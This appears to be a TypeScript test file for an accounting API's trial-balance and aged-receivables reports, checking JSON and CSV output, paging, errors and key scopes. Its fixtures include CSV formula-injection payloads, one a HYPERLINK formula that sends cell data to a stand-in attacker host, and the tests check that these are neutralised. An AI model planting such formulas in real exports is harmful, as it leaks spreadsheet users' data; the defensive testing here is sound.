import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { csvOf } from '../../api/reports-csv.ts';
import { agedReceivablesSchema, trialBalanceSchema } from '../../api/reports-view.ts';
import { type Kit, openKit } from './kit.ts';
import { book, contract, customer } from './sample-book.ts';
import { bookedPayment, issuedCycle } from './settled.ts';

/** Names that a spreadsheet would take for formulas, and one that only needs quotation marks. */
const names = {
  'C-1': '=HYPERLINK("http://attacker.example?"&A1,"bill")',
  'C-2': '@SUM(A1:A9)',
  'C-3': '\t-2+3',
  'C-4': 'Kask;=1+1',
  'C-5': 'Õnne "Õ" Ōe, 株式会社',
};
const numbers = Object.keys(names);

let kit: Kit;
beforeAll(async () => {
  kit = await openKit({
    book: {
      ...book,
      customers: Object.entries(names).map(([number, name]) => customer(number, { name })),
      contracts: numbers.map((number) => contract(number)),
    },
  });
  for (const number of numbers) {
    const cycle = await issuedCycle(kit, number);
    // 62.00 are owed; the second customer pays half, the third too much.
    if (number === 'C-2')
      await bookedPayment(kit, cycle, { paymentId: 'half', amountMinor: 3_100 });
    if (number === 'C-3')
      await bookedPayment(kit, cycle, { paymentId: 'more', amountMinor: 7_000 });
  }
});
afterAll(() => kit.close());

const aged = '/v1/reports/aged-receivables';
const balance = '/v1/reports/trial-balance';

async function readAged(query = '') {
  return agedReceivablesSchema.parse((await kit.ask('GET', `${aged}${query}`)).body);
}

async function readCsv(path: string, headers: Record<string, string> = {}): Promise<string[][]> {
  const { status, body } = await kit.ask('GET', path, { headers });
  expect(status).toBe(200);
  return parse(String(body), { record_delimiter: '\r\n' });
}

test('the trial balance comes as JSON and as a table with the same figures', async () => {
  const { body } = await kit.ask('GET', balance);
  const { accounts, ...head } = trialBalanceSchema.parse(body);
  expect(head).toEqual({ seller: 'nordlys', asOf: '2026-03-14' });
  expect(accounts.map((row) => [row.account, row.balanceMinor])).toEqual([
    ['receivable', 5 * 6_200 - 3_100 - 6_200],
    ['revenue', -5 * 5_000],
    ['tax', -5 * 1_200],
    ['cash', 10_100],
    ['customer_credit', -800],
  ]);
  const [header, ...rows] = await readCsv(`${balance}?format=csv`);
  expect(header).toEqual(['seller', 'as_of', 'currency', 'account', 'debit', 'credit', 'balance']);
  expect(rows).toContainEqual([
    ...['nordlys', '2026-03-14', 'EUR', 'customer_credit'],
    ...['0.00', '8.00', '-8.00'],
  ]);
  expect(rows).toHaveLength(accounts.length);
});

test('what is owed is listed by customer and comes to what the trial balance says', async () => {
  const { items, totals, next } = await readAged('?asOf=2026-03-29');
  expect(items.map((row) => [row.customer, row.days1To30Minor])).toEqual([
    ['C-1', 6_200],
    ['C-2', 3_100],
    ['C-4', 6_200],
    ['C-5', 6_200],
  ]);
  expect(totals).toMatchObject([{ currency: 'EUR', notDueMinor: 0, totalMinor: 21_700 }]);
  expect(next).toBeNull();
  expect(await readAged('?asOf=2026-03-13')).toMatchObject({ items: [], totals: [] });
});

test('page after page lists everybody once, each with the totals of all', async () => {
  const seen: string[] = [];
  for (let cursor = ''; ; ) {
    const { items, totals, next } = await readAged(`?limit=1${cursor}`);
    expect(totals).toMatchObject([{ totalMinor: 21_700 }]);
    seen.push(...items.map((row) => row.customer));
    if (next === null) break;
    cursor = `&cursor=${next}`;
  }
  expect(seen).toEqual(['C-1', 'C-2', 'C-4', 'C-5']);
});

test('as a table all customers come at once, and no name is a formula', async () => {
  const rows = await readCsv(`${aged}?limit=1`, { Accept: 'text/csv' });
  expect(rows.map((row) => row[3])).toEqual([
    'name',
    `'=HYPERLINK("http://attacker.example?"&A1,"bill")`,
    "'@SUM(A1:A9)",
    "Kask;'=1+1",
    'Õnne "Õ" Ōe, 株式会社',
  ]);
  expect(rows[2]).toEqual([
    ...['nordlys', '2026-03-14', 'C-2', "'@SUM(A1:A9)", 'EUR', '1'],
    ...['31.00', '0.00', '0.00', '0.00', '0.00', '31.00'],
  ]);
});

test('a table says what it is, and is to be kept under a name that says whose', async () => {
  const { headers } = await kit.ask('GET', `${aged}?format=csv&asOf=2026-04-30`);
  expect(headers.get('Content-Type')).toBe('text/csv; charset=utf-8; header=present');
  expect(headers.get('Content-Disposition')).toBe(
    'attachment; filename="aged-receivables-nordlys-2026-04-30.csv"',
  );
  expect(headers.get('Vary')).toContain('Accept');
});

test.each([
  ['?format=xml', 400, 'query_invalid'],
  ['?asOf=2026-02-30', 422, 'date_invalid'],
  ['?seller=nobody', 404, 'seller_unknown'],
])('%s is refused for both reports', async (query, status, code) => {
  for (const path of [aged, balance]) {
    expect(await kit.ask('GET', `${path}${query}`)).toMatchObject({ status, body: { code } });
  }
});

test('a key needs the scope for reports', async () => {
  const key = await kit.newKey('customers:read', 'payments:read');
  const refused = await kit.ask('GET', aged, { key });
  expect(refused).toMatchObject({ status: 403, body: { code: 'scope_missing' } });
  const allowed = await kit.ask('GET', aged, { key: await kit.newKey('reports:read') });
  expect(allowed.status).toBe(200);
});

test('whatever text a cell holds, it comes back as it was but for apostrophes before formulas', () => {
  const cell = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc.string({
      unit: fc.constantFrom('=', '+', '-', '@', '＝', ';', '\t', '\r', '\n', '"', ',', 'a'),
    }),
  );
  fc.assert(
    fc.property(fc.array(cell, { minLength: 1, maxLength: 4 }), (texts) => {
      const csv = csvOf([...texts.keys()].map(String), [texts.map((text) => ({ text }))]);
      const [, row = []]: string[][] = parse(csv, { record_delimiter: '\r\n' });
      expect(row).toHaveLength(texts.length);
      for (const [index, read] of row.entries()) {
        expect(read).not.toMatch(/(^|[;\t\r\n])\s*[=+\-@＝＋－＠]/u);
        const plain = texts[index]?.replaceAll("'", '');
        expect(read.replaceAll("'", '')).toBe(plain);
      }
    }),
    { numRuns: 2_000 },
  );
});
